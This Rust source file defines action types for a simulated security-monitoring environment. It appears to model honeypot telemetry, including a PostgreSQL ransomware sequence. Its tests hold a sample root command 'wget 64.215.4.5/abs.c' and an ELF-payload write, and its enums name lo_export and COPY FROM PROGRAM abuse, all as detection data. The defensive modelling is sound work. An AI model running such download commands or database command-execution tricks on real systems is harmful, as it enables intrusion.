//! Observable actions.
//!
//! An [`Action`] is something that *happens* in the simulated environment —
//! a connection, an HTTP request, an SSH authentication, a database command,
//! a process execution, a file operation. Monitors (crate `telemetry`)
//! observe actions and produce log records; one action may be observed by
//! several monitors (e.g. an SSH login appears in both the Zeek `ssh.log`
//! and the host auth log), exactly as in the paper's multi-monitor setup
//! (§III-B: "an attacker may tamper with one monitor ... it would be
//! challenging to manipulate all monitors").

use std::net::Ipv4Addr;

use crate::flow::Flow;
use crate::topology::HostId;

/// HTTP request observed on a flow.
#[derive(Debug, Clone, PartialEq)]
pub struct HttpAction {
    pub flow: Flow,
    pub method: String,
    /// Host header (may be a raw IP, which is itself suspicious).
    pub host: String,
    pub uri: String,
    pub status: u16,
    /// Response MIME type as a Zeek file analyzer would tag it.
    pub mime: String,
    pub user_agent: String,
}

/// SSH authentication attempt observed on a flow.
#[derive(Debug, Clone, PartialEq)]
pub struct SshAuthAction {
    pub flow: Flow,
    /// The host the authentication happened on (internal target), if known.
    pub target: Option<HostId>,
    pub user: String,
    pub method: AuthMethod,
    pub success: bool,
    pub client_banner: String,
}

/// Authentication mechanism.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AuthMethod {
    Password,
    PublicKey,
    HostBased,
}

/// Database wire commands the honeypot PostgreSQL emulator distinguishes
/// (§V's ransomware steps 1–3 map onto these).
#[derive(Debug, Clone, PartialEq)]
pub enum DbCommandKind {
    /// Authentication attempt with the given outcome.
    Auth { success: bool },
    /// `SHOW server_version_num` style reconnaissance.
    ShowVersion,
    /// Ordinary SQL query.
    Query,
    /// Writing a binary payload into a `largeobject` (hex-encoded).
    LargeObjectWrite { hex_prefix: String, bytes: u64 },
    /// `lo_export` writing a file onto the server disk.
    LoExport { path: String },
    /// `COPY ... FROM PROGRAM` style command execution.
    CopyFromProgram { program: String },
}

/// A database session command observed on a flow.
#[derive(Debug, Clone, PartialEq)]
pub struct DbAction {
    pub flow: Flow,
    pub target: Option<HostId>,
    pub user: String,
    pub command: DbCommandKind,
    /// Raw statement text (sanitized downstream).
    pub statement: String,
}

/// Process execution on a monitored host.
#[derive(Debug, Clone, PartialEq)]
pub struct ExecAction {
    pub host: HostId,
    pub user: String,
    pub pid: u32,
    pub ppid: u32,
    pub exe: String,
    pub cmdline: String,
}

/// Kind of file operation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FileOp {
    Create,
    Modify,
    Delete,
    Chmod,
    Truncate,
    Read,
}

/// File operation on a monitored host.
#[derive(Debug, Clone, PartialEq)]
pub struct FileOpAction {
    pub host: HostId,
    pub user: String,
    pub path: String,
    pub op: FileOp,
    /// Executable responsible for the operation.
    pub process: String,
}

/// Raw audit (syscall) record on a monitored host, auditd-style.
#[derive(Debug, Clone, PartialEq)]
pub struct AuditAction {
    pub host: HostId,
    pub user: String,
    pub syscall: String,
    pub args: String,
    pub exit_code: i32,
}

/// Anything that happens in the simulated environment.
#[derive(Debug, Clone, PartialEq)]
pub enum Action {
    /// Bare network flow with no modeled application payload.
    Flow(Flow),
    Http(HttpAction),
    SshAuth(SshAuthAction),
    Db(DbAction),
    Exec(ExecAction),
    FileOp(FileOpAction),
    Audit(AuditAction),
}

impl Action {
    /// The network flow carried by this action, if any.
    pub fn flow(&self) -> Option<&Flow> {
        match self {
            Action::Flow(f) => Some(f),
            Action::Http(a) => Some(&a.flow),
            Action::SshAuth(a) => Some(&a.flow),
            Action::Db(a) => Some(&a.flow),
            Action::Exec(_) | Action::FileOp(_) | Action::Audit(_) => None,
        }
    }

    /// The host the action executes on, for host-side actions.
    pub fn host(&self) -> Option<HostId> {
        match self {
            Action::Exec(a) => Some(a.host),
            Action::FileOp(a) => Some(a.host),
            Action::Audit(a) => Some(a.host),
            Action::SshAuth(a) => a.target,
            Action::Db(a) => a.target,
            Action::Flow(_) | Action::Http(_) => None,
        }
    }

    /// Source address of the action, when network-borne.
    pub fn src_addr(&self) -> Option<Ipv4Addr> {
        self.flow().map(|f| f.src)
    }

    /// Short tag for debugging/telemetry routing.
    pub fn kind_name(&self) -> &'static str {
        match self {
            Action::Flow(_) => "flow",
            Action::Http(_) => "http",
            Action::SshAuth(_) => "ssh_auth",
            Action::Db(_) => "db",
            Action::Exec(_) => "exec",
            Action::FileOp(_) => "file_op",
            Action::Audit(_) => "audit",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::flow::FlowId;
    use crate::time::SimTime;

    fn sample_flow() -> Flow {
        Flow::probe(
            FlowId(9),
            SimTime::from_secs(1),
            "111.200.3.4".parse().unwrap(),
            "141.142.77.10".parse().unwrap(),
            5432,
        )
    }

    #[test]
    fn flow_extraction() {
        let a = Action::Db(DbAction {
            flow: sample_flow(),
            target: Some(HostId(3)),
            user: "postgres".into(),
            command: DbCommandKind::ShowVersion,
            statement: "SHOW server_version_num".into(),
        });
        assert_eq!(a.flow().unwrap().dst_port, 5432);
        assert_eq!(a.host(), Some(HostId(3)));
        assert_eq!(a.src_addr(), Some("111.200.3.4".parse().unwrap()));
        assert_eq!(a.kind_name(), "db");
    }

    #[test]
    fn host_actions_have_no_flow() {
        let a = Action::Exec(ExecAction {
            host: HostId(1),
            user: "root".into(),
            pid: 7036,
            ppid: 1,
            exe: "/usr/bin/wget".into(),
            cmdline: "wget 64.215.4.5/abs.c".into(),
        });
        assert!(a.flow().is_none());
        assert_eq!(a.host(), Some(HostId(1)));
        assert!(a.src_addr().is_none());
    }

    #[test]
    fn largeobject_write_carries_elf_prefix() {
        let cmd = DbCommandKind::LargeObjectWrite {
            hex_prefix: "7F454C46".into(),
            bytes: 48_000,
        };
        match cmd {
            DbCommandKind::LargeObjectWrite { ref hex_prefix, .. } => {
                assert!(hex_prefix.starts_with("7F454C46"));
            }
            _ => unreachable!(),
        }
    }
}
